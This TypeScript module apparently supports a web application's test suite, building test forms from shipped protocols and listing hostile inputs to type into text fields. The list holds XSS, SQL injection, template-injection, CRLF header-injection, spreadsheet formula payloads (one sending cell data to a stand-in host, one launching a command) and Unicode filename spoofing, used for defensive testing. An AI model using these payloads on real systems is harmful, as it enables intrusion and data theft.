import type { Definition } from '../../protocols/language/definition.js';
import { CATEGORIES, type Field } from '../../protocols/language/form.js';
import { SHIPPED } from '../../protocols/registry.js';
import { tiny } from '../fixtures/tiny.js';

/**
 * Set to try every text in every field on every page; otherwise each field gets one of them, and one form in eight goes the
 * whole way.
 */
export const ALL = process.env.RETORNO_PAYLOADS === 'all';

/** What people try in text fields; each no longer than the shortest field. */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</textarea></bdi><svg onload=alert(1)>',
  "'; DROP TABLE runs; --",
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  'uno\r\nSet-Cookie: rt=1\r\n\r\ndos',
  '=HYPERLINK("http://canario.invalid/?"&A1)',
  "+1+cmd|' /C calc'!A0",
  '\u202Egnp.exe\u202C \u2066abc\u2069',
  '&lt;b&gt; &amp;amp; &#x27;',
  'javascript:alert(1)',
];

/** As pages show it again: line breaks are those of the machine it is read on. */
export function shownAs(payload: string): string {
  return payload.replaceAll('\r\n', '\n');
}

const words = { es: 'Inventado', en: 'Invented' };
const ground = { mark: 'proposal', ref: 'invented' } as const;

/** Forms of a definition that ask for text, of its steps and its events. */
function textForms({ steps, events }: Definition) {
  // An event may be called like a step.
  const reported = events.map((event) => ({ ...event, id: `event-${event.id}` }));
  return [...steps, ...reported].filter(({ form }) => form?.some(isText));
}

export function isText({ type }: Pick<Field, 'type'>): boolean {
  return type === 'text' || type === 'long-text';
}

/**
 * Every form of a shipped protocol that asks for text, with its own fields, as the step of an invented protocol in which all
 * are open from the start and whatever is answered goes to another institution as well.
 */
function formsOfProtocol(protocol: Definition): Definition {
  const steps = textForms(protocol).map(({ id, title, form = [] }) => ({
    id,
    title,
    form: form.map(withoutEffect),
    shares: [{ id: 'all', to: 'other', categories: CATEGORIES, purpose: words, ground }],
  }));
  return tiny(steps, { id: `forms-of-${protocol.id}`, title: protocol.title });
}

/** Only what is typed: nothing the run would act on. */
function withoutEffect({
  assigns,
  plans,
  places,
  refers,
  required,
  fills,
  ...field
}: Field): Field {
  return field;
}

export const PROTOCOLS = SHIPPED.map((protocol) => ({
  protocol,
  forms: formsOfProtocol(protocol),
}));
